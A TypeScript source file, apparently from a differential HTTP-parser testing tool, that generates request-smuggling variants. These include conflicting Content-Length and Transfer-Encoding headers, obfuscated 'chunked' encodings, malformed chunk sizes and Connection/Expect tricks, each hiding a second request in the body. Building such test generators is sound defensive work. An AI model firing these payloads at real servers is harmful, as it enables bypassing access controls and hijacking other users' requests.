import { type DrawnRequest, renderRequest } from '../differential/draw-request.ts';
import type { Random } from '../differential/random.ts';

/** Requests that two readers may end in two places, with another request in what one of them takes for a body. */

/** What is to reach a backend if the two readings part. */
const HIDDEN = 'GET /smuggled HTTP/1.1\r\nHost: shop.example\r\nX-Smuggled: 1\r\n\r\n';

interface Framed {
  readonly lines: readonly string[];
  readonly body: string;
}

type Way = (random: Random) => Framed;

const CHUNKED = 'Transfer-Encoding: chunked';
const LENGTH = `Content-Length: ${HIDDEN.length}`;
const EMPTY = '0\r\n\r\n';

function chunk(text: string): string {
  return `${text.length.toString(16)}\r\n${text}\r\n`;
}

/** Each kind of disagreement that was ever used in an attack, as far as it can be said in bytes. */
const WAYS: Readonly<Record<string, Way>> = {
  'length, then chunked': () => ({ lines: [LENGTH, CHUNKED], body: EMPTY + HIDDEN }),
  'chunked, then length': () => ({ lines: [CHUNKED, 'Content-Length: 5'], body: EMPTY + HIDDEN }),
  'two lengths': (random) => ({
    lines: random.chance(0.5) ? ['Content-Length: 0', LENGTH] : [LENGTH, 'Content-Length: 0'],
    body: HIDDEN,
  }),
  'the same length twice': () => ({ lines: [LENGTH, LENGTH], body: HIDDEN }),
  'a list of lengths': () => ({ lines: [`${LENGTH}, ${HIDDEN.length}`], body: HIDDEN }),
  'a length that is odd': (random) => ({
    lines: [
      random.pick([
        ...[`Content-Length: +${HIDDEN.length}`, `Content-Length: 0x${HIDDEN.length.toString(16)}`],
        ...[`Content-Length: ${HIDDEN.length}.0`, `Content-Length: "${HIDDEN.length}"`, 'Content-Length: -1'],
        ...[
          `Content-Length: ${HIDDEN.length} 0`,
          `Content-Length:\x0b${HIDDEN.length}`,
          'Content-Length: \xb2',
        ],
      ]),
    ],
    body: HIDDEN,
  }),
  'chunked, hidden by white space': (random) => ({
    lines: [
      LENGTH,
      random.pick([
        ...['Transfer-Encoding : chunked', ' Transfer-Encoding: chunked', 'Transfer-Encoding:\x0bchunked'],
        ...[
          'Transfer-Encoding: \x0cchunked',
          'X: y\r\n Transfer-Encoding: chunked',
          'Transfer-Encoding\t: chunked',
        ],
        ...[
          'Transfer-Encoding: chunked\x00',
          'X: y\rTransfer-Encoding: chunked',
          'X: y\nTransfer-Encoding: chunked',
        ],
      ]),
    ],
    body: EMPTY + HIDDEN,
  }),
  'chunked, in other words': (random) => ({
    lines: [
      random.pick([
        ...[
          'Transfer-Encoding: xchunked',
          'Transfer-Encoding: chunked, identity',
          'Transfer-Encoding: identity',
        ],
        ...[
          'Transfer-Encoding: chunked, chunked',
          'Transfer-Encoding: "chunked"',
          'Transfer-Encoding: chunke\xe4',
        ],
        ...['Transfer-Encoding: gzip, chunked', 'Transfer-Encoding: chunked;a=b', 'Transfer-Encoding:'],
        ...['Transfer_Encoding: chunked', 'Content-Encoding: chunked', 'Transfer-Encoding: ,chunked'],
      ]),
      ...(random.chance(0.5) ? [LENGTH] : []),
    ],
    body: EMPTY + HIDDEN,
  }),
  'two codings': (random) => ({
    lines: random.chance(0.5) ? [CHUNKED, CHUNKED] : [CHUNKED, 'Transfer-Encoding: identity'],
    body: EMPTY + HIDDEN,
  }),
  'a chunk size that is odd': (random) => ({
    lines: [CHUNKED],
    body:
      random.pick([
        ...['5 \r\nhello\r\n', '0x5\r\nhello\r\n', '+5\r\nhello\r\n', '5;\r\nhello\r\n', '5\nhello\n'],
        ...['5;a\nb\r\nhello\r\n', '5;a\rb\r\nhello\r\n', '5\r\nhello', '5\r\nhelloXX', '5\r\nhello\n'],
        ...[
          '100000005\r\nhello\r\n',
          'ffffffffffffffff5\r\nhello\r\n',
          '5\x00\r\nhello\r\n',
          '\r\n5\r\nhello\r\n',
        ],
        ...[
          '5,5\r\nhello\r\n',
          '5_0\r\nhello\r\n',
          '5;"\r\nhello\r\n',
          '5;a="\n"\r\nhello\r\n',
          '\t5\r\nhello\r\n',
        ],
      ]) +
      EMPTY +
      HIDDEN,
  }),
  'a last chunk that is odd': (random) => ({
    lines: [CHUNKED],
    body:
      chunk('hello') +
      random.pick([
        '0\n\n',
        '00\r\n\r\n',
        '0;a\r\n\r\n',
        '-0\r\n\r\n',
        '0\r\n\n',
        '0\r\nX: y\n\r\n',
        '0\r\n\r',
        '0\r\nContent-Length: 9\r\n\r\n',
        '0\r\nX y: z\r\n\r\n',
        '0 \r\n\r\n',
      ]) +
      HIDDEN,
  }),
  'a request in a chunk': () => ({ lines: [CHUNKED], body: chunk(HIDDEN) + EMPTY }),
  'a request in a body': () => ({ lines: [LENGTH], body: HIDDEN }),
  'a request behind a GET that has a body': () => ({
    lines: [`Content-Length: ${HIDDEN.length - 4}`],
    body: HIDDEN,
  }),
  'framing that Connection names': (random) => ({
    lines: [
      `Connection: ${random.pick(['Content-Length', 'Transfer-Encoding', 'Host', 'Transfer-Encoding, Content-Length'])}`,
      random.chance(0.5) ? LENGTH : CHUNKED,
    ],
    body: HIDDEN,
  }),
  'an upgrade that is refused': () => ({
    lines: ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 9'],
    body: HIDDEN,
  }),
  'an expectation': (random) => ({
    lines: [
      random.pick(['Expect: 100-continue', 'Expect: 100-Continue, x', 'Expect: y 100-continue', 'Expect:']),
      LENGTH,
    ],
    body: HIDDEN,
  }),
  'HTTP/1.0 with a coding': () => ({ lines: ['Connection: keep-alive', CHUNKED], body: EMPTY + HIDDEN }),
};

/** The request, framed in one of these ways. */
export function drawSmuggling(
  request: DrawnRequest,
  random: Random,
): { readonly way: string; readonly bytes: string } {
  const way = random.pick(Object.keys(WAYS));
  const { lines, body } = (WAYS[way] as Way)(random);
  const own = request.lines.filter((line) => !/^(?:content-length|transfer-encoding|expect)\b/i.test(line));
  const at = random.below(own.length + 1);
  const version = way === 'HTTP/1.0 with a coding' ? 'HTTP/1.0' : request.version;
  const framed = { ...request, version, lines: [...own.slice(0, at), ...lines, ...own.slice(at)], body };
  return { way, bytes: renderRequest(framed) };
}
